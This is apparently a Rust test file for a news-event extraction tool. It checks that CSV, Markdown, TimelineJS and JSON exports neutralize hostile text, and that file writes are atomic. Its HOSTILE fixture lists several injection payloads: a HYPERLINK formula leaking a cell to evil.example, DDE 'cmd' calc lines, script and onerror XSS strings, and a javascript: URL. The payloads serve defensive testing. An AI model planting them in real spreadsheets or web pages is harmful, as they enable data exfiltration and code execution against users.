//! Exports written to files: every format, atomic replacement, and hostile article text that
//! must not become a spreadsheet formula or live markup.

use chrono::NaiveDate;
use dateline::Extraction;
use dateline::corpus::{Article, DateSource, Problem};
use dateline::export::{self, Format};
use dateline::extract::{Event, Source, Status};
use dateline::temporal::{Anchor, Precision, When};

const HOSTILE: [&str; 6] = [
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
];

fn hostile_events() -> Vec<Event> {
    let day = NaiveDate::from_ymd_opt(2024, 4, 9).unwrap_or_default();
    HOSTILE
        .iter()
        .enumerate()
        .map(|(i, h)| Event {
            id: format!("{h}{i}"),
            event_type: (*h).to_owned(),
            summary: (*h).to_owned(),
            actors: vec![(*h).to_owned(), "Russia".to_owned()],
            target: None,
            status: Status::Alleged,
            confidence: 0.5,
            when: Some(When {
                start: Some(day),
                end: Some(day),
                precision: Precision::Day,
                expression: (*h).to_owned(),
                anchor: Anchor::Article,
                value: "2024-04-09".to_owned(),
            }),
            source: Source {
                article: (*h).to_owned(),
                start: 0,
                end: h.len(),
                text: (*h).to_owned(),
            },
            trigger: None,
        })
        .collect()
}

fn extraction() -> Extraction {
    Extraction {
        articles: HOSTILE
            .iter()
            .map(|h| Article {
                path: (*h).to_owned(),
                title: Some((*h).to_owned()),
                url: Some("javascript:alert(1)".to_owned()),
                published: NaiveDate::from_ymd_opt(2024, 4, 10),
                published_source: DateSource::Sidecar,
                text: (*h).to_owned(),
            })
            .collect(),
        events: Vec::new(),
        problems: vec![Problem {
            path: HOSTILE[0].to_owned(),
            message: HOSTILE[4].to_owned(),
        }],
    }
}

fn render(format: Format) -> String {
    let mut out = Vec::new();
    export::write(format, &extraction(), &hostile_events(), &mut out)
        .unwrap_or_else(|e| panic!("{format:?}: {e}"));
    String::from_utf8(out).unwrap_or_else(|e| panic!("{format:?} is not UTF-8: {e}"))
}

#[test]
fn csv_cells_never_start_a_formula() {
    let csv = render(Format::Csv);
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let mut rows = 0;
    for record in reader.records() {
        let record = record.unwrap_or_else(|e| panic!("bad CSV: {e}"));
        for cell in &record {
            let first = cell.trim_start_matches(' ').chars().next();
            assert!(
                !matches!(first, Some('=' | '+' | '-' | '@' | '\t' | '\r')),
                "cell {cell:?} could run as a formula"
            );
        }
        rows += 1;
    }
    assert_eq!(rows, HOSTILE.len());
}

#[test]
fn markdown_and_timelinejs_carry_no_live_markup() {
    for format in [Format::Markdown, Format::Timelinejs] {
        let out = render(format);
        for live in ["<script", "<img", "javascript:alert"] {
            let hit =
                out.contains(live) && !(live == "javascript:alert" && format == Format::Markdown);
            assert!(!hit, "{format:?} contains {live}: {out}");
        }
    }
    // Markdown may show the text of an unsafe address, but never as a link.
    let md = render(Format::Markdown);
    assert!(!md.contains("<javascript:"), "{md}");
    assert!(!md.contains("](javascript:"), "{md}");
    // Markdown tables (articles, problems) neutralize formula starts too.
    for line in md.lines().filter(|l| l.starts_with("| ")) {
        for cell in line.split(" | ").map(|c| c.trim_start_matches("| ")) {
            assert!(!cell.starts_with(['=', '+', '-', '@']), "{line}");
        }
    }
    let tl: serde_json::Value =
        serde_json::from_str(&render(Format::Timelinejs)).unwrap_or_default();
    for slide in tl["events"].as_array().into_iter().flatten() {
        let id = slide["unique_id"].as_str().unwrap_or_default();
        assert!(
            id.chars()
                .all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_'),
            "{id}"
        );
    }
}

#[test]
fn json_and_jsonl_keep_the_text_exactly() {
    let v: serde_json::Value = serde_json::from_str(&render(Format::Json)).unwrap_or_default();
    for (e, h) in v["events"].as_array().into_iter().flatten().zip(HOSTILE) {
        assert_eq!(e["summary"], h);
        assert_eq!(e["source"]["text"], h);
    }
    let lines = render(Format::Jsonl);
    let (events, bad) = export::jsonl::read(lines.as_bytes()).unwrap_or_default();
    assert!(bad.is_empty());
    assert_eq!(events, hostile_events());
}

#[test]
fn every_format_writes_a_file_atomically() {
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    for format in [
        Format::Json,
        Format::Jsonl,
        Format::Csv,
        Format::Timelinejs,
        Format::Markdown,
    ] {
        let path = dir
            .path()
            .join(format!("events-{format:?}.{}", format.extension()));
        std::fs::write(&path, "old").unwrap_or_default();
        export::write_file(format, &extraction(), &hostile_events(), &path)
            .unwrap_or_else(|e| panic!("{format:?}: {e}"));
        assert_eq!(
            std::fs::read_to_string(&path).unwrap_or_default(),
            render(format)
        );
    }
    let count = std::fs::read_dir(dir.path())
        .map(Iterator::count)
        .unwrap_or(0);
    assert_eq!(count, 5, "temporary files were left behind");
}

#[test]
fn a_failed_export_keeps_the_old_file_and_says_so() {
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    // The temporary file for a 250-character name cannot be created (names are limited to
    // 255 bytes), even for root, for whom read-only folders are no obstacle.
    let path = dir.path().join(format!("{}.csv", "e".repeat(246)));
    std::fs::write(&path, "hours of work").unwrap_or_default();
    let err = export::write_file(Format::Csv, &extraction(), &hostile_events(), &path)
        .err()
        .map(|e| e.to_string())
        .unwrap_or_default();
    assert!(err.contains("eeee.csv"), "{err}");
    assert!(err.contains("left unchanged"), "{err}");
    assert_eq!(
        std::fs::read_to_string(&path).unwrap_or_default(),
        "hours of work"
    );

    let missing = dir.path().join("gone/events.json");
    let err = export::write_file(Format::Json, &extraction(), &hostile_events(), &missing)
        .err()
        .map(|e| e.to_string())
        .unwrap_or_default();
    assert!(err.contains("gone/events.json"), "{err}");
    assert!(!missing.exists());
}
